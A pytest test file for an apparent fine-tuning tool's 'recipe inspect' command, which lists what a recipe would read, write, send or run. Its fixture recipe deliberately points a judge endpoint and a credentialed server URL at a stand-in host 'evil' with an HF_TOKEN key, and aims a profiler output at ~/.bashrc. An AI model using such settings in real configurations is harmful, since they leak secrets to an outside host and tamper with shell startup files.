"""`ftcli recipe inspect` says in plain words what something would touch, and touches nothing of it."""

from __future__ import annotations

import json
import shutil
from pathlib import Path
from typing import Any

import pytest

from ftcli import tiny
from ftcli.build.resolve import spec_of
from ftcli.cli import main
from ftcli.config.compose import Request
from ftcli.core import assets
from ftcli.pipelines import pipeline_dir
from ftcli.pipelines.pipeline_request import pipeline_request
from ftcli.pipelines.stage_specs import pipeline_spec
from ftcli.recipes.fetching import MOST_BYTES
from ftcli.runs import rundir

RECIPE = """\
ftcli: 1
defaults:
  - method: grpo
  - model: qwen-0.6b
model: {trust_remote_code: true}
data: {path: ../rows.jsonl, eval_path: https://host/e.jsonl}
method:
  reward_functions: {mine:score: 1}
  use_vllm: true
  vllm_mode: server
  vllm_server_base_url: http://u:secret@evil/v1
  judge: {type: openai, model: m, base_url: http://evil/v1, api_key_env: HF_TOKEN}
train:
  report_to: [tensorboard, wandb]
  push_to_hub: true
  deepspeed: {flops_profiler: {enabled: true, output_file: ~/.bashrc}, wandb: {enabled: true}}
"""


def inspected(subject: str | Path, capsys: pytest.CaptureFixture[str]) -> dict[str, Any]:
    assert main(["recipe", "inspect", str(subject), "--json"]) == 0
    found: dict[str, Any] = json.loads(capsys.readouterr().out)
    assert main(["recipe", "inspect", str(subject)]) == 0
    text = capsys.readouterr().out
    for kind in ("reads", "writes", "sends", "runs"):
        for touch in found[kind]:
            assert f"{touch['setting']}: {touch['what']}" in text
            assert not touch["flag"] or f"(needs {touch['flag']})" in text
    assert f"flags that it needs: {' '.join(found['flags']) or 'none'}" in text
    return found


def settings(found: dict[str, Any], kind: str) -> dict[str, str]:
    return {touch["setting"]: touch["flag"] for touch in found[kind]}


def test_a_recipe_of_a_stranger_is_told_setting_by_setting(here: Path, capsys):
    (here / "shared").mkdir()
    (here / "shared" / "r.yaml").write_text(RECIPE, encoding="utf-8")
    found = inspected("shared/r.yaml", capsys)
    assert {"model.name_or_path", "data.path", "data.eval_path"} <= settings(found, "reads").keys()
    assert settings(found, "writes") == {
        "train.report_to": "--allow-endpoint",
        "train.deepspeed.flops_profiler.output_file": "--allow-path",
        "run.dir": "",
    }
    assert settings(found, "sends") == {
        "method.vllm_server_base_url": "--allow-endpoint",
        "method.judge.type": "--allow-endpoint",
        "method.judge.base_url": "",
        "method.judge.api_key_env": "",
        "train.report_to": "--allow-endpoint",
        "train.push_to_hub": "--push-to-hub",
        "train.deepspeed.wandb": "--allow-endpoint",
    }
    assert settings(found, "runs") == {
        "model.trust_remote_code": "--trust-remote-code",
        "method.reward_functions": "--trust-reward-code",
    }
    every = ["--allow-endpoint", "--allow-path", "--push-to-hub", "--trust-remote-code", "--trust-reward-code"]
    assert found["flags"] == every
    assert [each["where"] for each in found["problems"]] == ["shared/r.yaml:6", "shared/r.yaml:6"]
    assert "secret" not in json.dumps(found)
    assert [path.name for path in here.rglob("*") if path.is_file()] == ["r.yaml"], "nothing was written"


@pytest.mark.parametrize("name", assets.recipes())
def test_a_shipped_recipe_needs_no_flag(name, here: Path, capsys):
    found = inspected(name, capsys)
    assert (found["flags"], found["problems"], found["runs"]) == ([], [], [])


def test_a_run_needs_what_its_values_need_and_not_what_it_grants_itself(here: Path, capsys):
    spec = json.loads(spec_of(Request(overrides=("run.dir=r", "hardware=cpu"))).to_json())
    spec |= {"grants": ["--trust-remote-code", "--push-to-hub"]}
    spec["plugins"] = {"acme": "folder 0123", "other": "package other 1.0"}
    spec["train"] |= {"hub_model_id": "someone/else", "push_to_hub": True}
    (here / "r").mkdir()
    (here / "r" / rundir.SPEC).write_text(json.dumps(spec), encoding="utf-8")
    (here / "r" / rundir.LOG).symlink_to("/etc/hostname")
    found = inspected("r", capsys)
    assert found["flags"] == ["--plugins DIR", "--push-to-hub"]
    assert [each["what"] for each in found["runs"]] == [
        "the plugin acme (folder 0123)", "the plugin other (package other 1.0)",
    ]  # fmt: skip
    assert settings(found, "sends") == dict.fromkeys(("train.hub_model_id", "train.push_to_hub"), "--push-to-hub")
    [problem] = found["problems"]
    assert "is a link that leads out" in problem["what"]


def test_a_pipeline_is_told_stage_by_stage(here: Path, capsys):
    typed = ("method=rlaif", "judge=openai", "judge.model=m", "judge.base_url=http://evil/v1", "run.dir=p")
    wanted = pipeline_request(Request(overrides=typed))
    assert wanted is not None
    pipeline_dir.create(pipeline_spec(wanted), [])
    found = inspected("p", capsys)
    assert found["flags"] == ["--allow-endpoint"]
    assert {"stages.judge.judge.base_url", "stages.judge.judge.type"} <= settings(found, "sends").keys()


def test_a_model_tells_its_code_and_its_base(here: Path, capsys):
    shutil.copytree(tiny.MODEL_DIR, here / "model")
    config = json.loads((here / "model" / "config.json").read_text(encoding="utf-8"))
    rundir.write_json(here / "model" / "config.json", {**config, "auto_map": {"AutoConfig": "m.C"}})
    assert inspected("model", capsys)["flags"] == ["--trust-remote-code"]
    (here / "adapter").mkdir()
    rundir.write_json(here / "adapter" / "adapter_config.json", {"base_model_name_or_path": "someone/base"})
    assert any("someone/base" in each["what"] for each in inspected("adapter", capsys)["reads"])
    (here / "none").mkdir()
    assert main(["recipe", "inspect", "none"]) == 2
    assert "holds no run, pipeline, stage, model or adapter" in capsys.readouterr().err


def test_a_recipe_behind_an_address_is_read_and_no_more_of_it_than_a_recipe_has(here: Path, capsys):
    from tests.loopback import Served, serving

    with serving(Served, content=RECIPE.encode()) as server:
        url = f"http://127.0.0.1:{server.server_address[1]}/r.yaml"
        found = inspected(url, capsys)
        assert found["subject"] == f"recipe {url}"
        assert "--trust-reward-code" in found["flags"]
        server.content = b"#" * (MOST_BYTES + 1)  # type: ignore[attr-defined]
        assert main(["recipe", "inspect", url]) == 2
        assert "has more than 1 MiB" in capsys.readouterr().err
